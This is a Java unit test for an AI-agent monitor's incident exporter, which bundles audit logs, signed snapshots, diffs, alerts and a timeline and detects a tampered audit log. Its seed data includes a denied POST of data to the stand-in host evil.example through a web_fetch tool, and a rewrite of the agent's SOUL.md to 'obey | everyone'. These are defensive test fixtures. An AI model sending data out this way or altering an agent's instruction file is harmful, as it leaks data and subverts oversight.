package dev.warden.monitor.snapshot;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.warden.kernel.Action;
import dev.warden.kernel.AgentKey;
import dev.warden.kernel.WardenHome;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class IncidentExporterTest {
  @TempDir Path dir;
  TestHome t;

  @BeforeEach
  void setUp() throws Exception {
    t = new TestHome(dir.resolve("home"));
  }

  @AfterEach
  void tearDown() throws Exception {
    t.close();
  }

  static Map<String, String> unzip(Path zip) throws Exception {
    Map<String, String> out = new LinkedHashMap<>();
    try (ZipInputStream in = new ZipInputStream(Files.newInputStream(zip))) {
      for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
        out.put(e.getName(), new String(in.readAllBytes(), StandardCharsets.UTF_8));
      }
    }
    return out;
  }

  void seed() throws Exception {
    SnapshotStore store = t.store();
    store.create("first");
    t.kernelWrite("notes.md", "hello\n");
    t.denied(new Action.Egress("POST", java.net.URI.create("https://evil.example/x"), Map.of(), "data", "web_fetch"));
    t.write("workspace/SOUL.md", "obey | everyone\n");
    t.clock.advanceSeconds(60);
    store.create("second");
    try (Connection c = DriverManager.getConnection("jdbc:sqlite:" + t.home.eventsDb());
        Statement st = c.createStatement()) {
      st.execute("CREATE TABLE alerts (id TEXT PRIMARY KEY, rule TEXT NOT NULL, severity TEXT NOT NULL, title TEXT NOT NULL, "
          + "detail TEXT NOT NULL, session TEXT, dedup_key TEXT NOT NULL, first_seen INTEGER NOT NULL, last_seen INTEGER NOT NULL, "
          + "count INTEGER NOT NULL, trigger_seq INTEGER)");
      st.execute("INSERT INTO alerts VALUES ('al-1','denied-burst','high','Burst of denied actions','5 denies','sess-2','k',1,2,5,3)");
    }
  }

  @Test
  void export_bundlesAuditVerificationSnapshotsDiffsAlertsAndTimeline() throws Exception {
    seed();
    Path zip = dir.resolve("out/incident.zip");
    IncidentExporter.Summary s = IncidentExporter.export(t.home, zip, "owner saw odd messages", t.clock);
    Map<String, String> z = unzip(zip);

    assertThat(z.keySet()).contains("README.md", "timeline.md", "audit/audit.jsonl", "audit/verification.json",
        "audit/audit.head", "keys/" + AgentKey.PUBLIC_FILE, "snapshots/index.json", "alerts/alerts.jsonl");
    assertThat(z.get("audit/audit.jsonl").lines().count()).isEqualTo(s.auditRecords()).isEqualTo(3);
    JsonNode v = new ObjectMapper().readTree(z.get("audit/verification.json"));
    assertThat(v.get("ok").asBoolean()).isTrue();
    assertThat(z.get("timeline.md")).contains("| file_write | notes.md | allow |").contains("| egress | evil.example | deny |");
    assertThat(z.keySet()).filteredOn(n -> n.startsWith("diffs/")).singleElement()
        .satisfies(n -> assertThat(z.get(n)).contains("workspace/SOUL.md").contains("UNEXPLAINED"));
    assertThat(z.keySet()).filteredOn(n -> n.startsWith("snapshots/") && n.endsWith(".sig")).hasSize(2);
    assertThat(z.get("alerts/alerts.jsonl")).contains("denied-burst");
    assertThat(s.alerts()).isEqualTo(1);
    assertThat(z.get("README.md")).contains("owner saw odd messages").contains("audit log intact");
    String all = String.join("\n", z.values());
    assertThat(all).doesNotContain("SEALED-BYTES-NOT-A-SECRET");
    assertThat(z.keySet()).noneMatch(n -> n.endsWith(AgentKey.PRIVATE_FILE) || n.contains("state.db") || n.startsWith("vault"));
    assertThat(Files.getPosixFilePermissions(zip)).hasSize(2);
  }

  @Test
  void export_tamperedAuditLog_isReportedInBundle() throws Exception {
    seed();
    try (Statement st = t.db.connection().createStatement()) {
      st.executeUpdate("UPDATE audit SET body = replace(body, 'evil.example', 'good.example') WHERE seq = 3");
    }
    IncidentExporter.Summary s = IncidentExporter.export(t.home, dir.resolve("i.zip"), "check", t.clock);
    assertThat(s.verification().ok()).isFalse();
    assertThat(unzip(dir.resolve("i.zip")).get("README.md")).contains("FAILED verification at record 3");
  }

  @Test
  void export_notAHome_fails() {
    assertThatThrownBy(() -> IncidentExporter.export(new WardenHome(dir.resolve("nothing")), dir.resolve("x.zip"), "r"))
        .hasMessageContaining("no state.db");
  }
}
